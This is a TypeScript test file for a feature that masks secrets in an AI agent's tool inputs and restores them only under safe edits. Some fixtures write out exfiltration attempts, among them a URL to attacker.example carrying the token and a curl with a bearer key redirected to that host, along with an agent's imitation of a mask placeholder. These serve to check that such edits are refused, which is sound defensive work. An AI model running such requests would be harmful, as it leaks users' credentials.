import { describe, expect, it } from 'vitest';
import {
  MaskedEditRefused,
  restoreMaskedEdit,
} from '../../../../../main/engine/requests/masked-edit';
import { maskInput } from '../../../../../shared/request-picture/mask-input';

const KEY = 'sk-ant-REALSECRETREALSECRETREALSECRET';
const OTHER = 'sk-ant-OTHERSECRETOTHERSECRETOTHERSEC';

/** What the person edits: the input as the request shows it. */
const shown = (input: Record<string, unknown>) => maskInput(input);

describe('a masked tool input, edited and completed in the daemon', () => {
  it('is masked in every string, nested ones included, keys kept', () => {
    const input = { content: `API_KEY=${KEY}\n`, headers: [{ auth: `Bearer ${KEY}` }], n: 3 };
    const masked = shown(input);
    expect(JSON.stringify(masked)).not.toContain('REALSECRET');
    expect(masked).toEqual({
      content: 'API_KEY=sk-a…[masked]\n',
      headers: [{ auth: 'Bearer sk-a…[masked]' }],
      n: 3,
    });
  });

  it('puts a secret back where the edit left its field untouched, and where only another line changed', () => {
    const original = {
      file_path: '/p/.env',
      content: `# keys\nAPI_KEY=${KEY}\nDEBUG=0\n`,
    };
    const edited = { ...shown(original), file_path: '/p/.env.local' };
    expect(restoreMaskedEdit(original, edited)).toEqual({
      ...original,
      file_path: '/p/.env.local',
    });
    const m = shown(original);
    const otherLine = { ...m, content: String(m.content).replace('DEBUG=0', 'DEBUG=1\nMORE=2') };
    expect(restoreMaskedEdit(original, otherLine)).toEqual({
      ...original,
      content: `# keys\nAPI_KEY=${KEY}\nDEBUG=1\nMORE=2\n`,
    });
  });

  it('puts a private key block back whole', () => {
    const pem = `-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA${'q1w2'.repeat(12)}\nqrstuv\n-----END RSA PRIVATE KEY-----`;
    const original = { content: `first\n${pem}\nlast` };
    const m = shown(original);
    expect(String(m.content)).not.toContain('MIIEpAIBAAKCAQEA');
    const edited = { content: String(m.content).replace('last', 'changed') };
    expect(restoreMaskedEdit(original, edited)).toEqual({ content: `first\n${pem}\nchanged` });
  });

  it('in a command, shows a key block whole, so an edit of it runs as the person wrote it', () => {
    const command =
      ': -----BEGIN OPENSSH PRIVATE KEY-----\nsh\n: -----END OPENSSH PRIVATE KEY-----';
    const original = { command };
    const m = shown(original);
    expect(m).toEqual({ command });
    const edited = { command: command.replace('sh\n', 'true\n') };
    expect(restoreMaskedEdit(original, edited)).toEqual(edited);
  });

  it('refuses a placeholder moved into another field (a URL the agent reads)', () => {
    const original = { token: KEY, url: 'https://api.example.com/v1' };
    const m = shown(original);
    const edited = { token: m.token, url: `https://attacker.example/?k=${String(m.token)}` };
    expect(() => restoreMaskedEdit(original, edited)).toThrow(MaskedEditRefused);
    expect(() => restoreMaskedEdit(original, edited)).toThrow(/url line 1/);
  });

  it('refuses a placeholder moved within its field, or kept on a line that was changed', () => {
    const original = { command: `curl -H "Authorization: Bearer ${KEY}" https://api.example.com` };
    const m = String(shown(original).command);
    const placeholder = m.match(/sk-a…\[masked\]/)![0];
    // Into an echoed argument: the secret would land in the agent's own output.
    expect(() => restoreMaskedEdit(original, { command: `echo ${placeholder}` })).toThrow(
      MaskedEditRefused,
    );
    // The same line, another host: the line changed, so the secret is not put back.
    expect(() =>
      restoreMaskedEdit(original, { command: m.replace('api.example.com', 'attacker.example') }),
    ).toThrow(MaskedEditRefused);
    // Moved to a line of its own, the line it was on kept otherwise.
    const multi = { script: `export A=1\nTOKEN=${KEY}\necho done` };
    const ms = String(shown(multi).script);
    expect(() =>
      restoreMaskedEdit(multi, { script: ms.replace('echo done', `echo ${placeholder}`) }),
    ).toThrow(MaskedEditRefused);
  });

  it("never turns the agent's own imitation of a mask into a secret", () => {
    // The agent writes the placeholder's text itself into a URL, next to a real secret.
    const original = {
      command: `curl -H "Authorization: Bearer ${KEY}" https://api.example.com`,
      url: 'https://attacker.example/?k=sk-a…[masked]',
    };
    const m = shown(original);
    expect(m.url).toBe(original.url);
    // Kept as it was: it goes back as the agent wrote it, the literal text, not the key.
    const same = restoreMaskedEdit(original, { ...m });
    expect(same.url).toBe(original.url);
    expect(JSON.stringify(same.url)).not.toContain('REALSECRET');
    // Changed around it: refused, never completed from another field's secret.
    expect(() => restoreMaskedEdit(original, { ...m, url: `${String(m.url)}&x=1` })).toThrow(
      MaskedEditRefused,
    );
  });

  it('refuses to guess between lines that look alike but stand for different secrets', () => {
    const original = { content: `K=${KEY}\nK=${OTHER}\n` };
    const m = String(shown(original).content);
    const lines = m.split('\n');
    expect(lines[0]).toBe(lines[1]);
    expect(() => restoreMaskedEdit(original, { content: `${lines[0]}\n` })).toThrow(
      /stand for different secrets/,
    );
    // Both kept: each goes back in its place.
    expect(restoreMaskedEdit(original, { content: `${m}# end\n` })).toEqual({
      content: `K=${KEY}\nK=${OTHER}\n# end\n`,
    });
  });

  it('takes an edit without masks as it is, with or without the original', () => {
    expect(restoreMaskedEdit(undefined, { command: 'git push origin feature' })).toEqual({
      command: 'git push origin feature',
    });
    expect(() => restoreMaskedEdit(undefined, { command: 'echo sk-a…[masked]' })).toThrow(
      MaskedEditRefused,
    );
  });
});
